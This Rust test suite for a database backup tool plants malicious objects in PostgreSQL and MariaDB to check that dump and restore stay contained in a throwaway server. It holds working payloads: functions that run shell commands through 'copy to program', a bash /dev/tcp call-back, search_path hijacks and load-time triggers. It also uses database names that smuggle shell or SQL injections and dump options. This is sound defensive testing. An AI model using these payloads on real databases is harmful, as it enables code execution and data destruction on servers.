//! What people plant in their databases, against whoever dumps and loads them: it reaches nothing
//! but the throwaway server, and it keeps no backup from being taken and proven.

use std::fs;
use std::io::Read;
use std::net::{Ipv4Addr, TcpListener};
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};

use crate::host::{Host, LONG, MariaDB, Postgres, eventually};
use crate::{nothing_is_left, take, verify, walk};

/// Names that tools could take for something else.
const NAMES: [&str; 10] = [
    "a\"b'c",
    "line\nbreak\n\\! touch planted",
    "$(touch planted)",
    "x'; drop database postgres; --",
    "`touch planted`",
    "{snapshot}",
    "--schema-only",
    "a=b dbname=postgres",
    "postgresql://127.0.0.1/postgres",
    "../../planted",
];

/// Runs SQL inside a database's own container, as whom one likes.
#[track_caller]
pub(crate) fn inside(host: &Host, name: &str, user: &str, database: &str, sql: &str) -> String {
    let database = database.replace('\\', "\\\\").replace('\'', "\\'");
    let container = host.name(name);
    host.docker(&[
        "exec",
        // What a database sets for its sessions is not to stop its own test.
        "-e",
        "PGOPTIONS=-c statement_timeout=0 -c default_transaction_read_only=off -c search_path=public",
        &container,
        "psql",
        "-XqAt",
        "-v",
        "ON_ERROR_STOP=1",
        "-U",
        user,
        "-d",
        &format!("dbname='{database}'"),
        "-c",
        sql,
    ])
}

/// Which plants have run on a database's data, a word each.
fn ran(host: &Host, name: &str) -> Vec<String> {
    let files = walk(&host.data(name));
    let notes = files.iter().filter(|f| f.ends_with("planted"));
    let text: String = notes.map(|f| fs::read_to_string(f).unwrap()).collect();
    text.lines().map(str::to_owned).collect()
}

/// Somebody on this host who counts who calls.
struct Listener {
    port: u16,
    heard: Arc<AtomicU32>,
}

impl Listener {
    fn start() -> Self {
        let listener = TcpListener::bind((Ipv4Addr::UNSPECIFIED, 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = Arc::new(AtomicU32::new(0));
        let counted = heard.clone();
        std::thread::spawn(move || {
            for mut call in listener.incoming().flatten() {
                counted.fetch_add(1, Ordering::Relaxed);
                let _ = call.read(&mut [0]);
            }
        });
        Listener { port, heard }
    }

    fn heard(&self) -> u32 {
        self.heard.load(Ordering::Relaxed)
    }
}

/// This host, as the database's container reaches it. Its own routes say it (proc(5)); Docker does not
/// always, after a restart of dockerd.
#[track_caller]
fn gateway(host: &Host) -> Ipv4Addr {
    let routes = host.docker(&["exec", &host.name("genomics"), "cat", "/proc/net/route"]);
    let mut all = routes.lines().map(|line| line.split_whitespace());
    let hex = all.find_map(|mut route| (route.nth(1)? == "00000000").then(|| route.next())?);
    let hex = hex.unwrap_or_else(|| panic!("no way out: {routes}"));
    Ipv4Addr::from(u32::from_str_radix(hex, 16).unwrap().to_le_bytes())
}

/// A function that does as much harm as the one who calls it may, and says so in the data folder.
fn harm(host: &Host, port: u16) -> String {
    let gateway = gateway(host);
    let folder = host.folder.display();
    format!(
        r#"create schema evil;
create function evil.run(what text) returns boolean language plpgsql as $f$
begin
  execute format('copy (select 1) to program %L', 'cat >/dev/null; echo ' || what || ' >>planted; '
    || 'timeout 5 bash -c "exec 3<>/dev/tcp/{gateway}/{port}" 2>/dev/null; '
    || 'touch {folder}/planted /db4sci/job/planted 2>/dev/null; true');
  return true;
exception when insufficient_privilege then return true;
end $f$;
grant usage on schema evil to public;
create function evil.json_build_array(name) returns json language sql as
  $f$ select pg_catalog.to_json(array[$1::text]) from evil.run('name') $f$;
create function evil.quote_ident(name) returns text language sql as
  $f$ select $1::text from evil.run('quote_ident') $f$;
create function evil.matches(text, text) returns boolean language sql as
  $f$ select $1 operator(pg_catalog.~) $2 and evil.run('operator') $f$;
create operator evil.~ (leftarg = text, rightarg = text, function = evil.matches);
create table evil.pg_class (oid oid, relname name, relkind "char", relnamespace oid);
create table evil.pg_namespace (oid oid, nspname name);
create table evil.pg_file_settings (name text, setting text, sourcefile text, seqno int);
create table evil.pg_roles (rolname name);
"#
    )
}

/// As a superuser, which a person may make of an account.
const PLANTS: &str = r#"
create table checked (x int check (evil.run('check')));
insert into checked values (1);
create table indexed (x int);
create function evil.indexed(int) returns int language sql immutable as
  $f$ select $1 from evil.run('index') $f$;
insert into indexed values (1);
create index on indexed (evil.indexed(x));
create materialized view seen as select evil.run('materialized');
create view viewed as select evil.run('view') as ran;
create table ruled (x int default evil.run('default')::int);
create rule r as on insert to ruled do also select evil.run('rule');
create domain narrow as int check (evil.run('domain'));
create table narrowed (x narrow); insert into narrowed values (1);
create function evil.event() returns event_trigger language plpgsql as
  $f$ begin perform evil.run('event'); end $f$;
create event trigger planted on ddl_command_end execute function evil.event();
alter database genomics set search_path = evil, pg_catalog;
alter role postgres set search_path = evil, pg_catalog;
"#;

#[test]
fn what_a_superuser_planted_runs_in_the_throwaway_server_alone() {
    let mut host = Host::new();
    host.spec("genomics", Postgres, &[]);
    host.start();
    host.ready(&["genomics"]);
    host.write("genomics", 7);
    let listener = Listener::start();
    let harm = harm(&host, listener.port);
    for database in ["genomics", "postgres"] {
        inside(&host, "genomics", "postgres", database, &harm);
    }
    inside(&host, "genomics", "postgres", "genomics", PLANTS);
    // It does harm where a superuser runs it, or this test would show nothing.
    let before = ran(&host, "genomics");
    assert!(
        before.contains(&"check".to_owned()) && listener.heard() > 0,
        "{before:?}"
    );
    let heard = listener.heard();

    let backup = take(&host, "genomics");
    verify(&host, &backup).unwrap();
    let id = backup.id.to_string();
    host.ok(&["restore", "genomics", "--from", &id, "--as", "copy"]);
    // Nothing of it ran in the server, though a superuser asked and dumped there.
    assert_eq!(ran(&host, "genomics"), before);
    // In the throwaway it did, and reached nobody.
    let there = ran(&host, "copy");
    assert!(there.contains(&"check".to_owned()), "{there:?}");
    assert_eq!(listener.heard(), heard);
    assert!(!host.path("planted").exists());
    let kept = inside(&host, "copy", "postgres", "genomics", "select n from kept");
    assert_eq!(kept, "7");
    nothing_is_left(&host);
}

/// Up to PostgreSQL 14 everybody may make functions in the database `postgres`.
#[test]
fn a_function_in_everybodys_schema_is_not_called_by_the_privileged_account() {
    let mut host = Host::new();
    host.spec("genomics", Postgres, &["image: PostgreSQL 13"]);
    host.start();
    host.ready(&["genomics"]);
    host.write("genomics", 7);
    let user = host.sql("genomics", "select current_user");
    let plant = "create function public.json_build_array(name) returns json language plpgsql as $f$
        begin
          copy (select 1) to program 'cat >/dev/null; echo name >>planted';
          return to_json(array[$1::text]);
        end $f$";
    inside(&host, "genomics", &user, "postgres", plant);
    // A superuser who calls it by that name runs it.
    let call = "select public.json_build_array('x'::name)";
    inside(&host, "genomics", "postgres", "postgres", call);
    assert_eq!(ran(&host, "genomics"), ["name"]);
    let backup = take(&host, "genomics");
    verify(&host, &backup).unwrap();
    assert_eq!(ran(&host, "genomics"), ["name"]);
    nothing_is_left(&host);
}

#[test]
fn databases_with_any_name_come_back() {
    let mut host = Host::new();
    host.spec("genomics", Postgres, &[]);
    host.start();
    host.ready(&["genomics"]);
    for (n, name) in NAMES.iter().enumerate() {
        let create = format!("create database \"{}\"", name.replace('"', "\"\""));
        inside(&host, "genomics", "postgres", "postgres", &create);
        let kept = format!("create table kept as select {n} as n");
        inside(&host, "genomics", "postgres", name, &kept);
    }
    let backup = take(&host, "genomics");
    verify(&host, &backup).unwrap();
    let id = backup.id.to_string();
    host.ok(&["restore", "genomics", "--from", &id, "--as", "copy"]);
    for (n, name) in NAMES.iter().enumerate() {
        let kept = inside(&host, "copy", "postgres", name, "select n from kept");
        assert_eq!(kept, n.to_string(), "{name}");
    }
    assert!(ran(&host, "genomics").is_empty() && ran(&host, "copy").is_empty());
    nothing_is_left(&host);
}

/// Whoever owns a database says how its sessions begin: also those of whoever dumps and loads it.
#[test]
fn what_an_owner_sets_for_all_sessions_stops_no_backup() {
    let mut host = Host::new();
    host.spec("genomics", Postgres, &[]);
    host.start();
    host.ready(&["genomics"]);
    host.write("genomics", 7);
    let user = host.sql("genomics", "select current_user");
    host.sql(
        "genomics",
        &format!(
            "create table many as select generate_series(1, 200000) as g;
         create table hidden (x int); insert into hidden values (1);
         alter table hidden enable row level security; alter table hidden force row level security;
         select lo_from_bytea(4242, 'a large object');
         create schema evil;
         alter database genomics set search_path = evil;
         alter database genomics set lock_timeout = '1ms';
         alter database genomics set idle_in_transaction_session_timeout = '1s';
         alter database genomics set default_transaction_read_only = on;
         alter database genomics set default_transaction_isolation = serializable;
         alter database genomics set client_encoding = latin1;
         alter database genomics set datestyle = 'SQL, DMY';
         alter database genomics set standard_conforming_strings = off;
         alter database genomics set row_security = off;
         alter database genomics set transaction_timeout = '500ms';
         alter database genomics set role = \"{user}\";
         alter database genomics set statement_timeout = '1ms'"
        ),
    );

    let backup = take(&host, "genomics");
    verify(&host, &backup).unwrap();
    let id = backup.id.to_string();
    host.ok(&["restore", "genomics", "--from", &id, "--as", "copy"]);
    let kept = "select (select n from kept) + (select count(*) from many)";
    assert_eq!(
        inside(&host, "copy", "postgres", "genomics", kept),
        "200007"
    );
    let settings = "select array_length(setconfig, 1) from pg_db_role_setting s \
                    join pg_database d on d.oid = s.setdatabase where datname = 'genomics'";
    assert_eq!(
        inside(&host, "copy", "postgres", "postgres", settings),
        "12"
    );
    nothing_is_left(&host);
}

/// Names and bodies that look like what a dump itself says.
const PLANTS_MY: &str = r"
create table kept (n int primary key); insert into kept values (7);
create table ticks (n int);
create table `a
CREATE TABLE ``forged`` (
INSERT INTO ``kept`` VALUES (1),(2);
` (n int);
insert into `a
CREATE TABLE ``forged`` (
INSERT INTO ``kept`` VALUES (1),(2);
` values (1), (2), (3);
delimiter //
create procedure said() begin
-- Current Database: `other`
/*
USE `mysql`;
-- Dump completed on 2026-11-22 19:20:52
*/
CREATE TABLE `made` (n int);
INSERT INTO `kept` VALUES (1),(2),(3);
INSERT INTO `kept` VALUES
(4,'x');
/*!50001 CREATE VIEW `forged` AS SELECT
1 */;
DROP TABLE `made`;
end//
create trigger `tr
USE ``x``` before insert on kept for each row begin
CREATE TEMPORARY TABLE forged (n int);
INSERT INTO `ticks` VALUES (1),(2);
DROP TEMPORARY TABLE forged;
end//
create event tick on schedule every 1 second do begin
INSERT INTO `ticks` VALUES (1);
end//
delimiter ;
";

/// Likewise for databases; the first ones are options of `mariadb-dump`.
const NAMES_MY: [&str; 7] = [
    "--where=1=0",
    "--no-data",
    "--result-file=planted",
    "a\nUSE `chem",
    "x`; drop database chem; --",
    "\\! touch planted",
    "$(touch planted)",
];

#[test]
fn names_and_bodies_that_look_like_a_dump_are_dumped_and_no_event_runs_in_the_throwaway() {
    let mut host = Host::new();
    host.spec("chem", MariaDB, &["parameters: {event_scheduler: \"ON\"}"]);
    host.start();
    host.ready(&["chem"]);
    host.sql("chem", PLANTS_MY);
    let quoted = |name: &str| format!("`{}`", name.replace('`', "``"));
    for (n, name) in NAMES_MY.iter().enumerate() {
        let database = quoted(name);
        host.sql(
            "chem",
            &format!("create database {database}; create table {database}.kept (n int); insert into {database}.kept values ({n})"),
        );
    }
    // Events do run in the server, or this would show nothing.
    let ticks = || host.sql("chem", "select count(*) from ticks");
    eventually(LONG, "the event runs", || match ticks().as_str() {
        "0" => Err("never".to_owned()),
        _ => Ok(()),
    });
    let backup = take(&host, "chem");
    verify(&host, &backup).unwrap();
    let id = backup.id.to_string();
    host.ok(&["restore", "chem", "--from", &id, "--as", "copy"]);
    host.holds("copy", MariaDB);
    for (n, name) in NAMES_MY.iter().enumerate() {
        let kept = host.sql("copy", &format!("select n from {}.kept", quoted(name)));
        assert_eq!(kept, n.to_string(), "{name}");
    }
    let forged = "select count(*) from `a\nCREATE TABLE ``forged`` (\nINSERT INTO ``kept`` VALUES (1),(2);\n`";
    assert_eq!(host.sql("copy", forged), "3");
    assert_eq!(host.sql("copy", "select n from kept"), "7");
    let enabled = "select status from information_schema.events where event_name = 'tick'";
    assert_eq!(host.sql("copy", enabled), "ENABLED");
    nothing_is_left(&host);
}
